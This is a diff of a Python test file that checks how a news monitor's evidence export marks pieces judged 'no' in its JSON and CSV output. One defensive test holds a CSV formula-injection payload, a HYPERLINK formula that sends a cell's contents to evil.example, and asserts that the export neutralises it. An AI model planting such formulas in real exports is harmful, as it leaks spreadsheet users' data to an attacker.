@@ -3,7 +3,10 @@ the Atom feeds, on SQLite and PostgreSQL: `monitor export changes` and GET /expo
 carry each piece's `judged_since` as the history does (the same model, the same read), and
 /changes.atom marks it in the entry's content with the history's words; the entry's `updated`
 stays when it went out (a correction is not news), while its body, ETag and `Last-Modified`
-move so a poll fetches the mark. On test_judged_since's store."""
+move so a poll fetches the mark. The evidence export (`monitor export evidence`, GET
+/export/evidence) marks each of its pieces the same way: `judged_since` in JSON, the columns
+`judged_since_verdict`, `_who`, `_at`, `_note` and `_copy_of` in CSV. On test_judged_since's
+store."""
 
 from __future__ import annotations
 
@@ -20,11 +23,12 @@ from fastapi.testclient import TestClient
 from monitor import server
 from monitor.domain import Definitions
 from monitor.domain import iso_time as iso
+from monitor.statuses import judge
 from monitor.store import Store
-from monitor.webmodels import ChangeOut
+from monitor.webmodels import ChangeEvidenceOut, ChangeOut
 from tests import test_judged_since, webdata
 from tests.test_digest_verdicts import HERALD, at
-from tests.test_judged_since import copy_of_herald, entry, said_no
+from tests.test_judged_since import EASED, copy_of_herald, entry, said_no
 
 pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
 
@@ -32,8 +36,8 @@ defs, store = test_judged_since.defs, test_judged_since.store  # fixtures
 env, client = test_judged_since.env, test_judged_since.client  # fixtures
 
 
-def exported(env: dict[str, str], fmt: str = "json") -> str:
-    result = webdata.run_cli(env, "export", "changes", "--format", fmt)
+def exported(env: dict[str, str], fmt: str = "json", kind: str = "changes") -> str:
+    result = webdata.run_cli(env, "export", kind, "--format", fmt)
     assert result.exit_code == 0, result.output
     return result.stdout
 
@@ -87,6 +91,92 @@ def test_a_later_yes_takes_the_exports_mark_away(
     assert all(e["judged_since"] for e in herald_in(json.loads(exported(env))))
     said_no(defs, store, herald, 3, "yes")
     assert all(e["judged_since"] is None for e in herald_in(json.loads(exported(env))))
+
+
+JUDGED_COLUMNS = [f"judged_since_{n}" for n in ("verdict", "who", "at", "note", "copy_of")]
+
+
+def evidence_rows(env: dict[str, str], client: TestClient) -> list[dict[str, str]]:
+    """`monitor export evidence` as CSV rows, checked equal to GET /export/evidence's."""
+    printed = list(csv.DictReader(io.StringIO(exported(env, "csv", "evidence"), newline="")))
+    served = client.get("/export/evidence").text
+    assert list(csv.DictReader(io.StringIO(served, newline=""))) == printed
+    return printed
+
+
+def evidence_items(env: dict[str, str], client: TestClient) -> list[dict[str, Any]]:
+    printed = json.loads(exported(env, "json", "evidence"))
+    assert client.get("/export/evidence", params={"format": "json"}).json() == printed
+    return printed
+
+
+@pytest.mark.parametrize("on", ["the piece", "a copy of its story"])
+def test_the_evidence_export_marks_a_piece_judged_no_since_as_the_changes_export_does(
+    defs: Definitions, store: Store, env: dict[str, str], client: TestClient, on: str
+) -> None:
+    herald, copy = entry(store, HERALD), copy_of_herald(store)
+    said_no(defs, store, herald if on == "the piece" else copy, 2)
+
+    items = evidence_items(env, client)
+    changes = json.loads(exported(env))
+    # each piece as its change lists it in the changes export (and the history): the same mark
+    listed = {(e["entry_id"], c["id"]): e["judged_since"] for c in changes for e in c["evidence"]}
+    assert listed == {(e["entry_id"], e["change_id"]): e["judged_since"] for e in items}
+    marked = [e for e in items if e["judged_since"] is not None]
+    assert marked and {e["title"] for e in marked} == {HERALD}
+    assert len(marked) == len(herald_in(changes))
+    copy_of = None if on == "the piece" else copy
+    assert all(
+        e["judged_since"] == {
+            "verdict": "no", "who": "ana", "at": "2026-03-10T02:00:00Z",
+            "note": "a tour-group story, not visas", "copy_of": copy_of,
+        }
+        for e in marked
+    )  # fmt: skip
+
+    table = evidence_rows(env, client)
+    fields = [n for n in ChangeEvidenceOut.model_fields if n != "judged_since"]
+    assert list(table[0]) == [*fields, *JUDGED_COLUMNS]
+    flagged = [r for r in table if r["judged_since_verdict"]]
+    assert {(r["entry_id"], r["change_id"]) for r in flagged} == {
+        (str(e["entry_id"]), str(e["change_id"])) for e in marked
+    }
+    assert all(
+        [r[c] for c in JUDGED_COLUMNS] == [
+            "no", "ana", "2026-03-10T02:00:00Z", "a tour-group story, not visas",
+            "" if copy_of is None else str(copy_of),
+        ]
+        for r in flagged
+    )  # fmt: skip
+    others = [r for r in table if not r["judged_since_verdict"]]
+    assert others and all(r[c] == "" for r in others for c in JUDGED_COLUMNS)
+
+
+def test_a_later_yes_takes_the_evidence_exports_mark_away(
+    defs: Definitions, store: Store, env: dict[str, str], client: TestClient
+) -> None:
+    herald = entry(store, HERALD)
+    said_no(defs, store, herald, 2)
+    assert any(e["judged_since"] for e in evidence_items(env, client))
+    assert any(r["judged_since_who"] for r in evidence_rows(env, client))
+    said_no(defs, store, herald, 3, "yes")
+    assert all(e["judged_since"] is None for e in evidence_items(env, client))
+    assert all(r[c] == "" for r in evidence_rows(env, client) for c in JUDGED_COLUMNS)
+
+
+def test_a_hostile_note_is_an_inert_cell_of_the_evidence_export(
+    defs: Definitions, store: Store, env: dict[str, str], client: TestClient
+) -> None:
+    """A note (or a token's name) a spreadsheet would run is written as the export writes every
+    such cell: with a leading `'`; JSON keeps it as given."""
+    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    judge(defs, store, entry_id=entry(store, HERALD), target=EASED, verdict="no", who="@ops",
+          note=note, now=at(2))  # fmt: skip
+    flagged = [r for r in evidence_rows(env, client) if r["judged_since_verdict"]]
+    assert flagged and all(r["judged_since_note"] == "'" + note for r in flagged)
+    assert all(r["judged_since_who"] == "'@ops" for r in flagged)
+    notes = {e["judged_since"]["note"] for e in evidence_items(env, client) if e["judged_since"]}
+    assert notes == {note}
 
 
 def feed_of(client: TestClient, **headers: str) -> Any:
